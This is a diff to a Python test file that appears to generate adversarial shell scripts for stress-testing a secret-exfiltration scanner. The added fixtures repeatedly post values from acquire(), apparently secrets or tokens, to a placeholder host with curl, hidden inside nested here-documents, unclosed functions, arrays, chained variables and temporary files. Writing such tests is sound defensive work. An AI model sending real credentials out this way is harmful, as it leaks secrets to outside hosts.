@@ -101,6 +101,27 @@ SHAPES = {
     "variables that print.sh": lambda n: "X=$(jq -n '{a: {clientRequest: 1}}')\ncurl -d $X h\n" * (n // 16),
     "functions that print.sh": lambda n: "f() { echo '{}'; }\ncurl -d \"$(f clientRequest)\" h | \n" * (n // 16),
     "an object of jq.sh": lambda n: "jq -n '{" + 'clientRequest: [1, "\\(a)"], ' * (n // 8) + "' | curl -d @- h\n",
+    "here-documents in a here-document.sh": lambda n: f"curl -d @- h <<A\n{acquire()}\nA\n" + "cat <<A\n" * n + "A\n",
+    "here-documents that are not closed.sh": lambda n: f"curl -d '{acquire()}' h\n" + "curl -d @- <<B\n" * n,
+    "calls of a function.sh": lambda n: (
+        'f() { curl -d "$1" h; }\nf() { token: $1\n}\n' + f"f '{acquire()}' f f\n" * (n // 16)
+    ),
+    "commands in a function.sh": lambda n: (
+        "f() {" + ' curl -d "$1" h; ' * (n // 8) + "}\n" + f"f '{acquire()}'\n" * (n // 8)
+    ),
+    "functions that are not closed.sh": lambda n: f"curl -d '{acquire()}' h\n" + "f() {\n$X f $1\n" * (n // 4),
+    "lists that grow.sh": lambda n: f"A+=(-d '{acquire()}')\n" * (n // 16) + 'curl "${A[@]}" h\n' * (n // 16),
+    "files that are written.sh": lambda n: f"echo '{acquire()}' > f\n" * (n // 8) + "curl -d @f h\n" * (n // 8),
+    "variables that lead on.sh": lambda n: (
+        "X=$Y Y=$X U=$U/a\n" * (n // 4) + f"curl $U -u $X -d '{acquire()}'\n" * (n // 8)
+    ),
+    "items of a table.sh": lambda n: (
+        f"curl -d '{acquire()}' h\n" + "".join(f"X[{i}]=$Y\ntoken: ${{X[{i}]}}\n" for i in range(n // 4))
+    ),
+    "secret keys on one line.sh": lambda n: f"curl -d '{acquire()}' h\n" + 'token: "$"' * n,
+    "arguments of jq.sh": lambda n: (
+        ("jq -n " + "--arg a 1 " * 50 + "'{clientRequest: $a}' | curl -d @- h\n") * (n // 128)
+    ),
     "backslashes.json": lambda n: in_json('"x": "' + "\\" * n),
 }
 HOSTILE_FIXES = {
